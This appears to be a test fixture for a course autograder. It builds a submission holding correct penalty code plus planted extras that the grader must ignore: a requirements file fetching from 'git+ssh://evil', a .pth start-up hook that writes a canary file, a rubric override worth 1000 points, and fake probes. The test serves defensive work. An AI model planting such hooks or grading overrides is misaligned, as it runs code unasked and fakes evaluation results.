# Hands in lists of packages, an environment and start-up hooks that would install or run something.
# Must be ignored: only the course says which packages there are.
# outcome: full marks
RIGHT = "import numpy as np\n\ndef l2_penalty(W, reg):\n    return reg * np.sum(W**2), 2 * reg * W\n"


def make(folder, name):
    place = folder / name
    place.mkdir()
    (place / "penalties.py").write_text(RIGHT)
    (place / "requirements.txt").write_text(
        "--index-url http://127.0.0.1:9\n-e git+ssh://evil\n--no-binary :all:\nnumpy==0\n"
    )
    (place / "environment.yml").write_text("dependencies: [evil]\n")
    (place / "evil.pth").write_text("import os; open('/tmp/@canary@', 'w')\n")
    (place / ".grader-secret").write_text("0")
    (place / "rubrics").mkdir()
    (place / "rubrics" / "linear_classifiers.toml").write_text("[l2_penalty.points]\nvalue = 1000\n")
    (place / "probes.py").write_text("def l2_penalty(student, W, reg):\n    return {'value': 1.0}\n")
